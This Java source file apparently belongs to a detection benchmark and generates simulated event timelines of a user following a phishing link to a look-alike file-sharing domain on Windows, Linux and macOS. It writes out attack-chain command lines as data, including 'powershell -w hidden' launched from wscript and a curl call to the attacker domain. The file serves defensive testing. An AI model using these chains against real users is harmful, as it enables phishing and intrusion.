package io.clicktrail.benchmarks.office;

import io.clicktrail.benchmarks.office.Desk.Running;
import io.clicktrail.event.Event;
import io.clicktrail.event.Platform;
import java.time.Duration;
import java.util.Comparator;
import java.util.List;

/**
 * A user who follows a malicious link, on one platform: a link in a mail or chat, a look-alike of a file-sharing
 * service, a download that runs, and a system tool that it starts.
 */
final class Attack {

    /** Domain of the link, never seen before. */
    static final String DOMAIN = "dropbox-files.click";

    private static final String LINK = " https://" + DOMAIN + "/s/4471";

    private final Desk desk;

    Attack(Platform platform) {
        desk = new Desk(0, platform);
        switch (platform) {
            case WINDOWS, UNKNOWN -> onWindows();
            case LINUX -> onLinux();
            case MACOS -> onMacos();
        }
        desk.events.sort(Comparator.comparing(Event::getTime));
    }

    /** The events in order of time. */
    List<Event> events() {
        return desk.events;
    }

    String host() {
        return desk.name;
    }

    private void onWindows() {
        var chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe";
        var file = "C:\\Users\\user0\\Downloads\\Report.js";
        desk.start(at(0), chrome, chrome + LINK, desk.resident("C:\\Program Files\\Office16\\OUTLOOK.EXE"));
        var browser = desk.resident(chrome);
        desk.visit(at(1), browser, DOMAIN);
        desk.write(at(20), browser, file);
        var system = "C:\\Windows\\System32\\";
        var script = desk.start(
                at(40), system + "wscript.exe", "wscript \"" + file + "\"", desk.resident("C:\\Windows\\explorer.exe"));
        desk.start(at(41), system + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell -w hidden", script);
    }

    private void onLinux() {
        var firefox = "/usr/lib/firefox/firefox";
        var file = "/home/user0/Downloads/Report.AppImage";
        var opener = desk.start(
                at(0),
                "/usr/bin/dash",
                "/bin/sh /usr/bin/xdg-open" + LINK,
                desk.resident("/usr/lib/thunderbird/thunderbird"));
        desk.start(Duration.ofMillis(90), firefox, "firefox" + LINK, opener);
        Running browser = desk.resident(firefox);
        desk.visit(at(1), browser, DOMAIN);
        desk.write(at(20), browser, file + ".part");
        desk.rename(at(21), browser, file + ".part", file);
        var shell = desk.resident("/usr/bin/bash");
        desk.makeExecutable(at(30), desk.start(at(30), "/usr/bin/chmod", "chmod +x " + file, shell), file);
        desk.start(at(41), "/usr/bin/curl", "curl -s https://" + DOMAIN + "/u", desk.start(at(40), file, file, shell));
    }

    private void onMacos() {
        var file = "/Users/user0/Downloads/Report.dmg";
        desk.start(
                at(0),
                "/usr/bin/open",
                "/usr/bin/open" + LINK,
                desk.resident("/Applications/Slack.app/Contents/MacOS/Slack"));
        var browser = desk.resident("/Applications/Google Chrome.app/Contents/MacOS/Google Chrome");
        desk.visit(at(1), browser, DOMAIN);
        desk.rename(at(20), browser, "/Users/user0/Downloads/Unconfirmed 7.crdownload", file);
        desk.mark(at(20).plusMillis(30), browser, file, "https://" + DOMAIN);
        var installer = desk.start(
                at(40), "/Volumes/Report/Report.app/Contents/MacOS/Report", "Report", desk.resident("/sbin/launchd"));
        desk.start(at(41), "/usr/bin/osascript", "osascript -e display", installer);
    }

    private static Duration at(int seconds) {
        return Duration.ofSeconds(seconds);
    }
}
